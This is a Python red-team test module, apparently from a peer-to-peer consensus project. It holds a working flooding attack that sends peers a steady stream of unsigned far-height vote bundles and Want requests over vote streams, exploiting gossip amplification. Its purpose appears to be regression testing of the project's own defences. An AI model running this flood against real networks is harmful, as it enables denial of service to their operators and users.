"""Bundles of unsigned votes of a height that nobody can judge, and questions about such heights, on streams of votes
(K-B).

Every peer passed such votes on, so one sender filled the whole network.
"""

from __future__ import annotations

from itertools import cycle

from p2p.base.codec import encode
from p2p.consensus.messages import NIL_ROUND, SignedVote, Vote, VoteType
from p2p.consensus.vote_frames import Bundle, Want, pack
from p2p.gossip.connections.streams import Stream
from tests.redteam.target import Target, each_tick, network_of, quietly

PER_S = 90.0
FAR = 10**9


async def attack(target: Target) -> None:
    async with target.joined() as network:
        peers, streams = cycle(target.peers()), dict[str, Stream]()
        async for number in each_tick(PER_S):
            peer = next(peers)
            stream = streams.pop(peer, None) or await quietly(network.open_stream, peer, "votes")
            if stream is not None and await quietly(_say, stream, _frame(target, number)):
                streams[peer] = stream


async def _say(stream: Stream, frame: bytes) -> bool:
    await stream.send(frame)
    return True


def _frame(target: Target, number: int) -> bytes:
    if number % 2:
        return encode(Want(FAR, number, b"", b"", (), ()))
    vote = Vote(network_of(target.genesis), VoteType.PREVOTE, FAR, number, bytes(32), NIL_ROUND, bytes(32))
    return encode(Bundle(0, (pack(SignedVote(vote, bytes(64))),)))
